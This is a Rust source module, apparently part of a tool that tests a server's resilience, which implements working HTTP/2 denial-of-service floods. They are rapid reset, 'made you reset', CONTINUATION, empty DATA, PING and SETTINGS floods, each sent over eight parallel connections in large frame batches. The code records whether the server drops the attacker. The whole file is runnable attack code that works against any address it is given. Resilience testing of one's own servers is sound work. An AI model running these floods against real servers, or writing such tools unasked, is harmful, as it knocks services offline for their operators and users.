//! Floods of HTTP/2 frames.

use crate::Outcome;
use std::{
    net::SocketAddr,
    time::{Duration, Instant},
};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    time::timeout,
};

/// Connections of the attacker.
const CONNECTIONS: usize = 8;
/// Frames of one write.
const BATCH: u32 = 500;
/// How long a connection may take to end once it is told to.
const END_LIMIT: Duration = Duration::from_secs(5);

/// The types of frames.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

/// An HTTP/2 frame.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut frame = length.get(1..).unwrap_or_default().to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The head of a request: the static table's GET or POST, http, a path and a host.
fn head(method: u8, path: &str) -> Vec<u8> {
    let mut head = vec![method, 0x86, 0x04, u8::try_from(path.len()).unwrap_or(0)];
    head.extend(path.as_bytes());
    head.extend([0x41, 1, b'x']);
    head
}

/// What a connection begins with.
fn first(name: &str) -> Vec<u8> {
    match name {
        "continuations" => frame(HEADERS, 1, 1, &head(0x82, "/v1/nothing")),
        "empty DATA" => frame(HEADERS, 4, 1, &head(0x83, "/v1/users")),
        _ => Vec::new(),
    }
}

/// The frames of the attack; `number` counts them on a connection.
fn next(name: &str, number: u32) -> Vec<u8> {
    let stream = number.wrapping_mul(2).wrapping_add(1) & 0x7FFF_FFFF;
    let open = || frame(HEADERS, 5, stream, &head(0x82, "/v1/nothing"));
    match name {
        "rapid reset" => [open(), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat(),
        "made you reset" => [open(), frame(WINDOW_UPDATE, 0, stream, &[0; 4])].concat(),
        "continuations" => frame(CONTINUATION, 0, 1, &[0x40, 1, b'a', 1, b'b']),
        "empty DATA" => frame(DATA, 0, 1, &[]),
        "pings" => frame(PING, 0, 0, &u64::from(number).to_be_bytes()),
        _ => frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]),
    }
}

/// Makes the attack for `time`.
pub async fn attack(name: &str, address: SocketAddr, time: Duration) -> anyhow::Result<Outcome> {
    let until = Instant::now() + time;
    let floods = (0..CONNECTIONS).map(|_| tokio::spawn(flood(name.to_owned(), address, until)));
    let floods: Vec<_> = floods.collect();
    let mut outcome = Outcome::default();
    for flood in floods {
        outcome.add(flood.await??);
    }
    Ok(outcome)
}

/// One connection after another.
async fn flood(name: String, address: SocketAddr, until: Instant) -> anyhow::Result<Outcome> {
    let mut outcome = Outcome::default();
    while Instant::now() < until {
        let (mut from, mut to) = TcpStream::connect(address).await?.into_split();
        let begun = Instant::now();
        let reader = tokio::spawn(async move {
            let mut chunk = vec![0; 64 * 1024];
            while let Ok(1..) = from.read(&mut chunk).await {}
        });
        outcome.connections += 1;
        let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        bytes.extend(frame(SETTINGS, 0, 0, &[]));
        bytes.extend(first(&name));
        let mut number = 0;
        while Instant::now() < until && number < u32::MAX / 4 && !reader.is_finished() {
            bytes.extend((number..number + BATCH).flat_map(|number| next(&name, number)));
            if to.write_all(&bytes).await.is_err() {
                break;
            }
            number += BATCH;
            bytes.clear();
        }
        outcome.sent += u64::from(number);
        // It was sent away if it ended before it had to.
        outcome.closed += u64::from(Instant::now() < until);
        let millis = u64::try_from(begun.elapsed().as_millis()).unwrap_or(u64::MAX);
        outcome.longest_ms = outcome.longest_ms.max(millis);
        drop(to);
        let _ = timeout(END_LIMIT, reader).await;
    }
    Ok(outcome)
}
